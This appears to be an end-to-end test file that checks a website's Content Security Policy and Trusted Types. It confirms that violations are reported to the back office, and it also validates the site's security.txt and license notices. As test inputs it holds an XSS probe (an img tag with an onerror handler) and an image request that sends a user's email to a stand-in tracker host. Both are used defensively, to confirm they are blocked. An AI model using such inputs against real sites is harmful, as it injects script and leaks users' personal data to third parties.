import { readFileSync } from 'node:fs';
import { expect, test } from '../support/site.ts';
import { goOnAsStaff } from '../support/staff.ts';

/** The browser reported exactly this refusal, and nothing else. */
async function emptied(consoleMessages: string[], words: string) {
  await expect.poll(() => consoleMessages).toEqual([expect.stringContaining(words)]);
  consoleMessages.length = 0;
}

test('an unsanitized text never becomes HTML, here and in the back office', async ({
  page,
  site,
  consoleMessages,
}) => {
  await site.backend.sql('delete from public.policy_reports');
  for (const address of ['/california', '/admin/login']) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const refused = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="/missing" onerror="window.attacked = true">',
        );
        return 'accepted';
      } catch (error) {
        return String(error);
      }
    });
    expect(refused).toContain('TypeError');
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    await emptied(consoleMessages, 'TrustedHTML');
  }
  const reported = () => site.backend.sql('select directive, page from public.policy_reports order by page');
  await expect.poll(reported).toEqual([
    { directive: 'require-trusted-types-for', page: '/admin/login' },
    { directive: 'require-trusted-types-for', page: '/california' },
  ]);
});

test('what a browser refuses is reported without queries, and staff see it and clear it', async ({
  page,
  site,
  consoleMessages,
}) => {
  await site.backend.sql('delete from public.policy_reports');
  await page.goto('/about?email=ada@example.com');
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'https://tracker.example/pixel.gif?who=ada@example.com';
    document.body.append(image);
  });
  const reported = () =>
    site.backend.sql<{ directive: string; blocked: string; page: string }>(
      "select directive, blocked, page from public.policy_reports where directive = 'img-src'",
    );
  await expect
    .poll(reported)
    .toEqual([{ directive: 'img-src', blocked: 'https://tracker.example', page: '/about' }]);
  await emptied(consoleMessages, 'tracker.example');
  await goOnAsStaff(page, site, '/admin/settings');
  const card = page.getByRole('region', { name: 'Blocked by browsers' });
  await expect(card.getByRole('row', { name: /img-src https:\/\/tracker\.example \/about 1/ })).toBeVisible();
  await page.getByRole('button', { name: 'Clear reports' }).click();
  await expect(page.getByText('No reports from browsers.')).toBeVisible();
  expect(await reported()).toEqual([]);
});

test('the site says where to report a vulnerability, and whose work it uses', async ({ site }) => {
  const text = async (address: string) => (await fetch(site.url + address)).text();
  const security = await text('/.well-known/security.txt');
  expect(security).toMatch(/^Contact: mailto:\S+@\S+$/m);
  const [, expires = ''] = /^Expires: (\S+)$/m.exec(security) ?? [];
  const days = (Date.parse(expires) - Date.now()) / 86_400_000;
  expect(days).toBeGreaterThan(30);
  expect(days).toBeLessThan(365);
  const licenses = await text('/licenses.txt');
  const { dependencies } = JSON.parse(readFileSync('package.json', 'utf8'));
  for (const name of [...Object.keys(dependencies), 'scheduler', 'tslib', 'tailwindcss']) {
    expect(licenses).toMatch(new RegExp(`^${name} \\d+\\.\\d+\\.\\d+ \\(`, 'm'));
  }
  const notices = licenses.split(/^-{72}$/m).slice(1);
  for (const notice of notices) expect(notice, notice.slice(0, 60)).toMatch(/copyright|author/i);
  expect(licenses).toContain('SIL OPEN FONT LICENSE');
});
